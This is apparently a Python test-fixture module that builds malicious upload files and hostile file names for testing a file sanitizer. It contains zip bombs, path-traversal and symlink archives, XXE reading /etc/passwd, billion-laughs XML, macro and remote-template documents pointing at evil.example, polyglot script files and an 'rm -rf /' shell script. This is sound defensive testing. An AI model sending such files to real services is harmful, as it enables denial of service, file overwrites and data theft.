"""Files that mean harm, each made here: what it would do is in its name."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from tests.frame.files import sound

MEGABYTE = 1024 * 1024


def zip_bomb(unpacked: int = 400 * MEGABYTE) -> bytes:
    """A thousandth of what it unpacks to."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made, made.open("zeros.txt", "w") as member:
        for _ in range(unpacked // MEGABYTE):
            member.write(bytes(MEGABYTE))
    return out.getvalue()


def nested_zip(depth: int = 3) -> bytes:
    inner = sound.archive({"a.txt": "a"})
    for level in range(depth):
        inner = sound.archive({f"{level}.zip": inner})
    return inner


def overlapping_zip() -> bytes:
    """Many names for the same bytes: small, and as large unpacked as one likes."""
    made = sound.archive({f"{number:03}.txt": b"x" * 1000 for number in range(50)}, way=zipfile.ZIP_STORED)
    at = made.index(b"PK\x01\x02")
    directory, end = bytearray(made[at:-22]), made[-22:]
    entry = 46 + 7
    for number in range(50):
        struct.pack_into("<I", directory, number * entry + 42, 0)
    return made[:at] + bytes(directory) + end


def lying_zip() -> bytes:
    """The directory says that a bomb is small."""
    made = bytearray(zip_bomb(20 * MEGABYTE))
    at = made.rindex(b"PK\x01\x02")
    struct.pack_into("<I", made, at + 24, 100)
    return bytes(made)


def crowded_zip(members: int = 5_000) -> bytes:
    return sound.archive(dict.fromkeys((f"{n}.txt" for n in range(members)), b"x"))


def long_directory_zip() -> bytes:
    """A directory that would fill the memory of whoever reads it, behind a count that says one."""
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * 500_000
    return directory_only(b"PK\x03\x04" + bytes(26), directory, 1)


def directory_only(body: bytes, directory: bytes, members: int) -> bytes:
    return (
        body + directory + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, members, members, len(directory), len(body), 0)
    )


def locked_zip() -> bytes:
    made = bytearray(sound.archive({"a.txt": "a"}))
    made[made.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(made)


def climbing_zip() -> bytes:
    return sound.archive({"../../etc/cron.d/x": "x"})


def rooted_zip() -> bytes:
    return sound.archive({"/etc/passwd": "x"})


def backwards_zip() -> bytes:
    return sound.archive({"photo\u202egpj.exe.txt": "x"})


def linking_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("here")
        link.external_attr = 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def zip_with_program() -> bytes:
    return sound.archive({"photo.txt": b"MZ\x90\x00" + bytes(100)})


def zip_with_script() -> bytes:
    return sound.archive({"photo.jpg.js": "x()"})


def zip_in_front() -> bytes:
    """A page in front of an archive: a browser shows it, an unpacker unpacks it."""
    return b"PK\x03\x04<html>" + sound.archive({"a.txt": "a"})


def docx_with_macro() -> bytes:
    return sound.ooxml(sound.DOCX_MAIN, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def docm() -> bytes:
    return sound.ooxml("application/vnd.ms-word.document.macroEnabled.main+xml")


def docx_with_far_template() -> bytes:
    return sound.ooxml(sound.DOCX_MAIN, sound.related("attachedTemplate", "https://evil.example/t.dotm"))


def docx_with_far_picture() -> bytes:
    return sound.ooxml(sound.DOCX_MAIN, sound.related("image", "https://evil.example/who-reads.png"))


def docx_with_entities() -> bytes:
    """Billion laughs in the list of contents."""
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    types = f'<!DOCTYPE Types [<!ENTITY l0 "ha">{lines}]><Types>&l9;</Types>'
    return sound.archive({"[Content_Types].xml": types})


def odt_with_far_object() -> bytes:
    return sound.opendocument("text", "<a><draw:image draw:x='1' xlink:href='http://evil.example/who.png'/></a>")


def odt_with_macro() -> bytes:
    made = io.BytesIO(sound.odt())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("Basic/Standard/Module1.xml", "<script/>")
    return made.getvalue()


def pixel_flood(side: int = 50_000) -> bytes:
    """A few kilobytes that say they are 2.5 billion pixels."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 6, 0, 0, 0)
    rows = zlib.compress(bytes(MEGABYTE))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def scan_flood() -> bytes:
    """A progressive JPEG whose scans are repeated: little to send, long to decode."""
    made = sound.picture("JPEG", (6000, 6000), progressive=True, quality=5)
    begin = made.rindex(b"\xff\xda")
    scan = made[begin:-2]
    return made[:-2] + scan * (30 * MEGABYTE // len(scan)) + b"\xff\xd9"


def cut_jpeg() -> bytes:
    return sound.picture("JPEG", (800, 600))[:2000]


def broken_jpeg() -> bytes:
    """It has its end, and nothing in the middle."""
    made = sound.picture("JPEG", (800, 600))
    return made[:200] + b"\xff\xd9"


def jpeg_and_zip() -> bytes:
    return sound.jpeg() + sound.zipped()


def jpeg_and_page() -> bytes:
    return sound.jpeg() + b"<html><script>alert(1)</script></html>"


def png_and_page() -> bytes:
    return sound.png() + b"<html><script>alert(1)</script></html>"


def webp_and_page() -> bytes:
    return sound.webp() + b"<html><script>alert(1)</script></html>"


def gif_and_script() -> bytes:
    """GIF89a is an assignment in a script."""
    return b"GIF89a/*\x01\x00\x00\xff\x00,\x00*/=1;alert(1)//;"


def gifar() -> bytes:
    return sound.picture("GIF", mode="P") + sound.archive({"A.class": b"\xca\xfe\xba\xbe", "META-INF/MANIFEST.MF": "x"})


def jar() -> bytes:
    return sound.archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"})


def pdf_and_zip() -> bytes:
    return sound.pdf() + sound.zipped()


def late_pdf() -> bytes:
    """Readers of PDF search for the head; a browser sees a page before it."""
    return b"<html><script>alert(1)</script></html>\n" + sound.pdf()


def pdf_and_page() -> bytes:
    return sound.pdf() + b"<html><script>alert(1)</script></html>"


def cut_pdf() -> bytes:
    return sound.pdf()[:-20]


def wav_and_page() -> bytes:
    return sound.wav() + b"<html><script>alert(1)</script></html>"


def mp4_and_page() -> bytes:
    return sound.mp4() + b"<html><script>alert(1)</script></html>"


def svg_with_script() -> bytes:
    return b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def page() -> bytes:
    return b"  \n<!DOCTYPE html><html><script>alert(1)</script>"


def page_behind_text() -> bytes:
    return b"Minutes of the meeting <script>alert(1)</script>"


def xml() -> bytes:
    return b'\xef\xbb\xbf<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def windows_program() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200) + b"PE\x00\x00" + bytes(200)


def linux_program() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf /\n"


def heic() -> bytes:
    return struct.pack(">I4s4sI4s4s", 24, b"ftyp", b"heic", 0, b"mif1", b"heic") + bytes(100)


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512)


def text_with_nul() -> bytes:
    return b"name\x00.txt\n"


def text_of_another_code() -> bytes:
    return "บันทึก".encode("cp874")


def text_in_sixteen_bits() -> bytes:
    return "Statement".encode("utf-16")


# What is sent, and the name it comes by.
FILES: dict[str, Callable[[], bytes]] = {
    "photos.zip": zip_bomb, "deep.zip": nested_zip, "overlap.zip": overlapping_zip, "lying.zip": lying_zip,
    "crowd.zip": crowded_zip, "directory.zip": long_directory_zip, "locked.zip": locked_zip,
    "climbing.zip": climbing_zip, "rooted.zip": rooted_zip, "backwards.zip": backwards_zip, "link.zip": linking_zip,
    "program.zip": zip_with_program, "script.zip": zip_with_script, "front.zip": zip_in_front, "app.jar": jar,
    "macro.docx": docx_with_macro, "macro.docm": docm, "template.docx": docx_with_far_template,
    "picture.docx": docx_with_far_picture, "entities.docx": docx_with_entities, "far.odt": odt_with_far_object,
    "macro.odt": odt_with_macro, "flood.png": pixel_flood, "cut.jpg": cut_jpeg,
    "broken.jpg": broken_jpeg, "archive.jpg": jpeg_and_zip, "page.jpg": jpeg_and_page, "page.png": png_and_page,
    "page.webp": webp_and_page, "script.gif": gif_and_script, "gifar.gif": gifar, "archive.pdf": pdf_and_zip,
    "late.pdf": late_pdf, "page.pdf": pdf_and_page, "cut.pdf": cut_pdf, "page.wav": wav_and_page,
    "page.mp4": mp4_and_page, "drawing.svg": svg_with_script, "holiday.jpg": page, "minutes.txt": page_behind_text,
    "feed.xml": xml, "invoice.pdf": windows_program, "tool": linux_program, "run.txt": shell_script,
    "photo.heic": heic, "old.doc": old_office, "nul.txt": text_with_nul, "thai.txt": text_of_another_code,
    "wide.txt": text_in_sixteen_bits, "empty.pdf": bytes,
}  # fmt: skip

# Names that mean harm, and what a PDF sent by them is called afterwards.
NAMES: dict[str, str] = {
    "../../etc/passwd": "passwd.pdf",
    "..\\..\\windows\\system32\\x.pdf": "x.pdf",
    "invoice.pdf.exe": "invoice.pdf",
    "invoice.exe.pdf": "invoice.pdf",
    "invoice.exe.v2.pdf": "invoice_exe.v2.pdf",
    "photo\u202efdp.exe": "photofdp.pdf",
    "\u2066hidden\u2069.pdf": "hidden.pdf",
    "nul\x00byte.pdf": "nulbyte.pdf",
    "two\r\nlines.pdf": "twolines.pdf",
    "CON.pdf": "file_CON.pdf",
    "nul": "file_nul.pdf",
    ".htaccess": "htaccess.pdf",
    "...": "file.pdf",
    "": "file.pdf",
    'a"b<c>|d?.pdf': "a_b_c__d_.pdf",
    "page.html": "page.pdf",
    "คำให้การ ๑.pdf": "คำให้การ ๑.pdf",
    "ຄຳໃຫ້ການ.pdf": "ຄຳໃຫ້ການ.pdf",
    "report.v2.pdf": "report.v2.pdf",
    "x" * 300 + ".pdf": "x" * 196 + ".pdf",
}
